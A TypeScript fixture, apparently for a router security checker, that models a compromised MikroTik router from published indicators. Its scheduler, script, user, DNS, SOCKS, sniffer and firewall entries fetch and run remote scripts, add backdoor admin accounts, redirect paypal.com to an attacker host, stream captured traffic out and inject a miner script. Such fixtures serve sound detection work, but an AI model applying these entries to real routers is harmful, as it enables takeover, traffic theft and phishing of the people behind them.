import { rules } from './firewall.data.js';
import { item, items } from './notation.js';
import { isAtLeast, since, stamp } from './release.js';
import type { RouterProfile } from './router-profile.js';

/**
 * Any router after a break-in: every published trace at once. Strangers live in the documentation ranges, except where a
 * check compares the very indicator that was published.
 */
export function compromised(profile: RouterProfile): RouterProfile {
  const { name } = profile;
  return foothold(persistence(network(profile))).named(name.replace(/factory|hardened/, 'compromised'));
}

function persistence(profile: RouterProfile): RouterProfile {
  const { release } = profile;
  const scheduler = (text: string) => ({
    ...item(text),
    'start-date': stamp(release, '2026-09-09'),
    ...item('start-time=startup owner=svcnet policy=ftp,reboot,read,write,policy,test,sensitive run-count=310'),
    disabled: 'false',
    ...since(release, '7.24', { days: '' }),
  });
  const script = (text: string) => ({
    ...item(text),
    ...item('owner=svcnet policy=ftp,reboot,read,write,policy,test,sensitive dont-require-permissions=true'),
    'last-started': stamp(release, '2026-09-18 04:00:00'),
    ...item('run-count=88 invalid=false'),
  });
  return profile
    .adding(
      '/system/scheduler',
      scheduler(
        'name=U6 interval=30m on-event="/tool fetch url=http://198.51.100.66/poll mode=http dst-path=u6.rsc; import u6.rsc"',
      ),
      scheduler('name=netupd interval=10m on-event=":execute cfg-rpt"'),
      scheduler('name=cfg-v5 interval=1h on-event="/system script run persist-v2"'),
    )
    .adding(
      '/system/script',
      script(
        'name=cfg-rpt source="/tool fetch url=\\"http://198.51.100.66/r\\"\\r\\n/user add name=svcnet group=full\\r\\n"',
      ),
      script(
        'name=persist-v2 source="/ip service set telnet disabled=no\\r\\n/system scheduler add name=netupd\\r\\n"',
      ),
    )
    .adding(
      '/tool/netwatch',
      item(
        'host=198.51.100.66 interval=5m status=up up-script="/tool fetch url=http://198.51.100.66/up" down-script="" disabled=false',
      ),
    )
    .editing('/ppp/profile', { name: 'default' }, { 'on-up': '/tool fetch url=http://198.51.100.66/ppp' })
    .editing('/ip/dhcp-server', {}, { 'lease-script': '/tool fetch url=http://198.51.100.66/lease' });
}

function foothold(profile: RouterProfile): RouterProfile {
  const { release } = profile;
  const changed = isAtLeast(release, '7.15') ? 'last-modified' : 'creation-time';
  const file = (text: string) => ({ ...item(text), [changed]: stamp(release, '2026-09-09 04:11:52') });
  const line = (text: string) => ({
    time: isAtLeast(release, '7.10') ? '2026-09-09 04:10:31' : 'sep/09 04:10:31',
    ...item(text),
    buffer: 'memory',
  });
  const router = profile.has('/system/device-mode')
    ? profile.with('/system/device-mode', item('flagged=true'))
    : profile;
  return router
    .adding(
      '/user',
      ...['svcnet', 'cfgmarket'].map((name) => ({
        name,
        ...item('group=full address="" expired=false disabled=false'),
      })),
    )
    .adding('/user/ssh-keys', {
      ...item('user=svcnet bits=2048'),
      ...since(release, '7.0', { 'key-type': 'rsa', fingerprint: `SHA256:${'b'.repeat(43)}` }),
      [isAtLeast(release, '7.21') ? 'info' : 'key-owner']: 'mtops@build',
    })
    .adding(
      '/file',
      file('name=mt_setup.rsc type=script size=812 contents="/tool fetch url=http://198.51.100.66/stage2\\r\\n"'),
      file('name=mt_pub.key type=".key file" size=381'),
      file(
        'name=webproxy/error.html type=".html file" size=96 contents="<script src=http://198.51.100.66/coinhive.js></script>"',
      ),
    )
    .adding(
      '/log',
      line('topics=system,error,critical message="login failure for user -2 from 198.51.100.66 via ssh"'),
      line('topics=system,info,account message="user svcnet logged in from 198.51.100.66 via ssh:-2@198.51.100.66"'),
    )
    .adding('/system/history', {
      ...item('action="user svcnet added" by=svcnet policy=policy redoable=false undoable=true'),
      time: stamp(release, '2026-09-09 04:10:40'),
    });
}

function network(profile: RouterProfile): RouterProfile {
  const { release } = profile;
  return profile
    .with('/ip/socks', item('enabled=true port=4145'))
    .adding('/ip/socks/access', item('src-address=198.51.100.0/24 action=allow disabled=false'))
    .prepending(
      '/ip/firewall/filter',
      ...rules('chain=input action=accept protocol=tcp src-address=198.51.100.66 dst-port=38291 comment=cfgmarket-in'),
    )
    .adding(
      '/ip/firewall/nat',
      ...rules(`
        chain=dstnat action=dst-nat dst-address=203.0.113.2 to-addresses=198.51.100.66 protocol=tcp comment=ovpn-cfgmarket
      `),
    )
    .adding('/ip/firewall/address-list', {
      ...item('list=allow address=23.95.217.226 dynamic=false disabled=false'),
      'creation-time': stamp(release, '2026-09-09 04:12:01'),
    })
    .adding(
      '/interface/ovpn-client',
      item('name=ovpn-out1 connect-to=64.44.141.220 port=1194 mode=ip user=site running=true disabled=false'),
    )
    .adding(
      '/interface/l2tp-client',
      item('name=l2tp-out1 connect-to=198.51.100.66 user=site use-ipsec=false running=true disabled=false'),
    )
    .adding(
      '/ip/dns/static',
      ...items(`
        name=download.mikrotik.com address=198.51.100.66 ttl=1d dynamic=false disabled=false
        name=www.paypal.com address=198.51.100.66 ttl=1d dynamic=false disabled=false
      `),
    )
    .adding('/ip/dns/cache', item('name=www.paypal.com type=A data=198.51.100.66 ttl=2w3d static=false'))
    .with('/tool/sniffer', item('streaming-enabled=true streaming-server=198.51.100.66:37008 running=true'))
    .adding('/ip/traffic-flow/target', item('dst-address=198.51.100.66 port=2055 version=9 disabled=false'));
}
